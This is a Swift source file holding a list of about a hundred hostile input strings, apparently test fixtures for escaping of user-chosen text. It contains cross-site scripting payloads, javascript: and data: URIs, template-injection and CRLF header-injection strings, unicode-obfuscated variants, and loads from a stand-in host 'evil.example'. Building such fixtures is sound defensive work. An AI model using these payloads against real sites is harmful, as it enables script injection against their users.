/// A hundred texts that have run as script somewhere, for names, messages, branches and everything else that users choose (T93).
enum HostileTexts {
    static let all: [String] = plain + broken + encoded

    private static let plain = [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>", "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</pre><img src=x onerror=alert(1)>",
        "</a><a href=javascript:alert(1)>x",
        "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<math><mi xlink:href=javascript:alert(1)>x",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>", "<form action=javascript:alert(1)><button>",
        "<button formaction=javascript:alert(1)>x",
        "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example'</style>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<!--<img src='--><img src=x onerror=alert(1)//'>",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<x onclick=alert(1)>click",
        "<a href=\"javascript:alert(1)\">x</a>",
    ]

    private static let broken = [
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
        "\" autofocus onfocus=alert(1) x=\"",
        "\"/onmouseover=alert(1)//", "`onmouseover=alert(1)", "\\\"><script>alert(1)</script>", "\"\u{301} onmouseover=\"alert(1)",
        "'\u{301} onmouseover='alert(1)",
        "<\u{301}script>alert(1)</script>", ">\u{338}<script\u{338}>alert(1)", "&\u{301}lt;script>", "\"\u{200D}onmouseover=\"alert(1)",
        "<\u{FE0F}img src=x onerror=alert(1)>",
        "\"\u{20E3} onfocus=alert(1) autofocus \"", "\"\u{0} onmouseover=alert(1)", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "<img src=x\u{0} onerror=alert(1)>", "<\u{0}script>alert(1)</script>",
        "<script\n>alert(1)</script>", "<script\t>alert(1)</script>", "<img\nsrc=x\nonerror\n=\nalert(1)>", "\"\r\nonmouseover=\"alert(1)",
        "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
        "\u{1B}]8;;javascript:alert(1)\u{07}x\u{1B}]8;;\u{07}<b>", "\u{1B}[31m<script>\u{1B}[0malert(1)</script>",
        "\u{202E}<script>alert(1)</script>", "\u{2066}\"><img src=x onerror=alert(1)>",
        "{{{page}}}", "{{&page}}", "{{#page}}<script>{{/page}}", "{{>sign-in}}", "{{=<% %>=}}<%page%>", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
        "{{constructor.constructor('alert(1)')()}}",
    ]

    private static let encoded = [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;script&#x3E;alert(1)",
        "&quot; onmouseover=&quot;alert(1)", "&amp;lt;script&amp;gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cscript%3E", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)",
        "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
        "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "//evil.example/x", "\\\\evil.example\\x",
        "https://evil.example/\"onclick=\"alert(1)",
        "[x](javascript:alert(1))", "![x](x\"onerror=\"alert(1))", "<https://evil.example>",
    ]
}
